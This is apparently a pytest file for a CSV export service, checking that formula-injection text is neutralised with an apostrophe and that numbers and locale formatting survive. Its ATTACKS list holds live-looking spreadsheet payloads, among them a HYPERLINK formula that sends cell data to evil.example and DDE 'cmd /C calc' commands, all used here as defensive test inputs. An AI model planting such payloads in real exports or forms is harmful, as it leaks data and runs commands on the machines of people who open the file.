"""CSV exports cannot attack the spreadsheet that opens them: a text that would be a formula
is written so that the spreadsheet shows it and never runs it, numbers stay numbers, and the
file opens directly in a spreadsheet in the reader's locale (BOM, separator, decimal mark)."""

from __future__ import annotations

import csv
from datetime import date
from decimal import Decimal
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from app.i18n import Translator
from app.services import dashboard
from app.services.csv_export import FORMULA_STARTS, cell_text, write_csv
from app.services.workspace import UserInfo
from tests import factories

ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


def _read(path: Path, delimiter: str) -> list[list[str]]:
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(raw.decode("utf-8-sig").splitlines(), delimiter=delimiter))


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_text_that_would_be_a_formula_is_shown_not_run(attack: str) -> None:
    written = cell_text(attack)
    assert written == "'" + attack  # readable: the value follows the apostrophe as typed
    assert not written.startswith(FORMULA_STARTS)


def test_numbers_stay_numbers_and_a_phone_number_stays_readable(tmp_path: Path) -> None:
    path = tmp_path / "out.csv"
    rows = [["+49 170 1234567", Decimal("-1500.50"), -3, "O'Brien", "Müller, Hans", None]]
    write_csv(path, rows, Translator("en"))
    assert _read(path, ",") == [
        ["'+49 170 1234567", "-1500.50", "-3", "O'Brien", "Müller, Hans", ""]
    ]


def test_a_comma_decimal_locale_gets_semicolons_and_comma_decimals(tmp_path: Path) -> None:
    path = tmp_path / "out.csv"
    write_csv(path, [["Summe; netto", Decimal("-1234.5"), 7, "=1+1"]], Translator("de"))
    text = path.read_bytes().decode("utf-8-sig")
    assert text == '"Summe; netto";-1234,5;7;\'=1+1\r\n'
    assert _read(path, ";") == [["Summe; netto", "-1234,5", "7", "'=1+1"]]
    write_csv(path, [["Total", Decimal("1234.5")]], Translator("en"))
    assert _read(path, ",") == [["Total", "1234.5"]]


@given(st.text())
def test_no_text_cell_ever_starts_as_a_formula(text: str) -> None:
    written = cell_text(text)
    assert not written.startswith(FORMULA_STARTS)
    assert written in (text, "'" + text)


def test_the_dashboards_brands_and_sources_from_a_web_form_cannot_run(
    user: UserInfo, tmp_path: Path
) -> None:
    customer = factories.customer()
    for attack in ATTACKS[:5]:
        factories.opportunity(user.id, customer, brand=attack, source=attack)
    factories.opportunity(user.id, customer, brand="-", source="+49 170 1234567")
    path = tmp_path / "pipeline.csv"
    for breakdown in ("brand", "source"):
        dash = dashboard.load(breakdown=breakdown, today=date.today())
        written = dashboard.export_csv(dash, path, Translator("en"))
        rows = _read(path, ",")
        assert len(rows) == written
        cells = [c for row in rows for c in row]
        assert not [c for c in cells if c.startswith(FORMULA_STARTS)]
        for attack in ATTACKS[:5]:
            assert "'" + attack in cells
        assert ("'-" if breakdown == "brand" else "'+49 170 1234567") in cells
        # Amounts are numbers with the locale's decimal mark.
        assert any(row[1:2] == ["EUR"] and row[3] == "31500.00" for row in rows), rows


def test_the_dashboard_opens_in_a_german_spreadsheet(user: UserInfo, tmp_path: Path) -> None:
    factories.opportunity(user.id, factories.customer(), brand="Škoda")
    path = tmp_path / "pipeline.csv"
    dashboard.export_csv(
        dashboard.load(breakdown="brand", today=date.today()), path, Translator("de")
    )
    rows = _read(path, ";")
    assert any(row[:4] == ["Škoda", "EUR", "1", "31500,00"] for row in rows), rows
